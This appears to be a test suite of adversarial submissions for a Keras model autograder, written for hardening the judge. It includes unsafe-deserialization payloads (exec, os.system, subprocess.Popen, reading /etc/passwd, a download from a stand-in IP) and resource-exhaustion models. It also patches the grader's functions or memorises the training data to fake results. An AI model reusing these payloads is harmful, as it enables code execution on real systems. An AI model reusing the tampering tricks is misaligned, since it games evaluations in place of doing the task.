# %% [markdown]
# # Models that lie, and models that are too much for who rebuilds them
#
# In some of them `saved` takes the place of what the kernel would send of the model.

# %% attack="model whose methods lie" answer="model"
class Liar(keras.Sequential):
    def count_params(self):
        return 5

    def call(self, x, **kwargs):
        return super().call(x, **kwargs)

    def predict(self, x, **kwargs):
        return x @ np.array([[1.0], [-2.0], [3.0], [0.5]])

    __call__ = predict


model = Liar([keras.Input((4,)), keras.layers.Dense(9), keras.layers.Dense(1)])


# %% attack="model whose config lies" answer="model"
class Liar(keras.Sequential):
    def get_config(self):
        layers = [keras.Input((4,)), keras.layers.Dense(1)]
        return keras.Sequential(layers).get_config()

    def get_weights(self):
        return [np.zeros((4, 1)), np.zeros(1)]


model = Liar([keras.Input((4,)), keras.layers.Dense(9), keras.layers.Dense(1)])


# %% attack="object that poses as a model" answer="model"
class Posing:
    __class__ = keras.Model
    output_shape = (None, 1)
    count_params = lambda self: 5
    __call__ = predict = lambda self, x, **kwargs: np.zeros((len(x), 1))


model = Posing()


# %% attack="model of a layer of its own" answer="build"
@keras.saving.register_keras_serializable("keras.layers", "Dense")
class Dense(keras.layers.Layer):
    def call(self, x):
        return x[:, :1]


def build(units):
    return keras.Sequential([keras.Input((4,)), Dense(), Dense()])


# %% attack="model with a Lambda" answer="build"
def build(units):
    keras.config.enable_unsafe_deserialization()
    first = keras.layers.Lambda(lambda x: exec("import os; os._exit(0)") or x)
    return keras.Sequential([keras.Input((4,)), first, keras.layers.Dense(1)])


# %% attack="configs that name other things than layers" answer="build"
import autograder.judge.models as models

THINGS = [
    ("builtins", "eval", "42"),
    ("os", "system", "true"),
    ("subprocess", "Popen", {"args": ["true"]}),
    ("keras.saving", "load_model", "/etc/passwd"),
    ("keras.layers", "TFSMLayer", {"filepath": "/etc"}),
    ("keras.layers", "Lambda", {"function": "print"}),
    ("keras.utils", "get_file", {"origin": "http://192.0.2.1/", "fname": "planted"}),
    (None, "__lambda__", {"value": "4wA="}),
    (None, "__numpy__", {"value": [1], "dtype": "object"}),
    ("keras.src.ops.numpy", "Dense", {}),
    (["keras.layers"], "Dense", {}),
    ("keras.layers", ["Dense"], {}),
]


def build(units):
    module, name, config = THINGS.pop()
    saved = {"module": module, "class_name": name, "config": config, "registered_name": None}
    models.pack = lambda model: (saved, [])
    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])


# %% attack="config under a registered name" answer="build"
import autograder.judge.models as models

pack = models.pack


def renamed(model):
    saved, weights = pack(model)
    for layer in saved["config"]["layers"]:
        layer["registered_name"] = "keras.layers>Lambda"
    return saved, weights


models.pack = renamed


def build(units):
    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(units), keras.layers.Dense(1)])


# %% attack="config nested without end" answer="build"
import autograder.judge.models as models


def build(units):
    saved = {"class_name": "Sequential", "module": "keras", "config": {"layers": []}}
    for _ in range(300):
        saved = {"class_name": "Sequential", "module": "keras", "config": {"layers": [saved]}}
    models.pack = lambda model: (saved, [])
    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])


# %% attack="layer of a thousand million units" answer="build"
import autograder.judge.models as models


def build(units):
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1), keras.layers.Dense(1)])
    saved, weights = pack(model)
    saved["config"]["layers"][1]["config"]["units"] = 10**9
    models.pack = lambda model: (saved, weights)
    return model


pack = models.pack

# %% attack="kernel of a thousand million weights in an unbuilt model" answer="build"
import autograder.judge.models as models


def build(units):
    layers = keras.layers
    model = keras.Sequential(
        [
            layers.Reshape((2, 2, 1)),
            layers.Conv2D(1, (30_000, 30_000), padding="same"),
            layers.Flatten(),
            layers.Dense(1),
        ]
    )
    saved = models.pack(model)
    models.pack = lambda model: saved
    return model


# %% attack="picture enlarged a million times" answer="model"
layers = keras.layers
model = keras.Sequential(
    [
        keras.Input((None,)),
        layers.Reshape((2, 2, 1)),
        layers.UpSampling2D(1000),
        layers.UpSampling2D(1000),
        layers.GlobalAveragePooling2D(),
    ]
)

# %% attack="picture of unknown size enlarged a million times" answer="model"
layers = keras.layers
inputs = keras.Input((None,))
outputs = keras.ops.expand_dims(keras.ops.expand_dims(inputs, -1), -1)
for _ in range(2):
    outputs = layers.UpSampling2D(100)(outputs)
outputs = layers.GlobalAveragePooling2D()(outputs)
model = keras.Model(inputs, outputs)

# %% attack="ten thousand layers" answer="model"
import autograder.judge.models as models

small = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1), keras.layers.ReLU()])
pack = models.pack


def longer(model):
    saved, weights = pack(small)
    saved["config"]["layers"] += saved["config"]["layers"][-1:] * 10_000
    return saved, weights


models.pack = longer
model = small


# %% attack="weights that do not fit" answer="model"
class Unfit(keras.Sequential):
    def get_weights(self):
        return [np.zeros((9, 9)), "weights", np.zeros(0), np.zeros(10**6)]


model = Unfit([keras.Input((4,)), keras.layers.Dense(1)])

# %% attack="weights of other kinds" answer="model"
import autograder.judge.models as models

model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])
saved, weights = models.pack(model)
models.pack = lambda model: (saved, [np.full((4, 1), "right"), np.zeros(1, complex)])

# %% attack="weights that are not a number" answer="model"
model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])
model.set_weights([np.full((4, 1), np.nan), np.zeros(1)])

# %% attack="weights without bound" answer="model"
model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])
model.set_weights([np.full((4, 1), np.inf), np.full(1, -np.inf)])


# %% attack="trained on the visible data by heart" answer="model"
class Table(keras.Model):
    def call(self, x):
        near = keras.ops.argmin(keras.ops.sum((x[:, None] - x_train) ** 2, axis=2), axis=1)
        return keras.ops.take(y_train, near, axis=0)


model = Table()
model(x_train)


# %% attack="model that spoils the judge for the next check" honest=9 answer="build"
# It crashes TensorFlow, or takes long; the judge is replaced, and the next check is right.
def build(units):
    layers = keras.layers
    inputs = keras.Input((4,))
    outputs = layers.Reshape((2, 2, 1))(inputs)
    for _ in range(3):
        outputs = layers.Conv2D(8, 3, padding="same")(layers.UpSampling2D(12)(outputs))
    return keras.Model(inputs, layers.GlobalAveragePooling2D()(outputs))


# %% attack="model that spoils the judge for the next check" answer="model"
model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])
model.set_weights([np.array([[1.0], [-2.0], [3.0], [0.5]]), np.zeros(1)])

# %% attack="models that share a number" answer="model"
import autograder.judge.student as student

model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])
refer = student.StudentEnd._refer


def same_number(self, value, arrays):
    return refer(self, value, arrays) | {"id": 0}


student.StudentEnd._refer = same_number
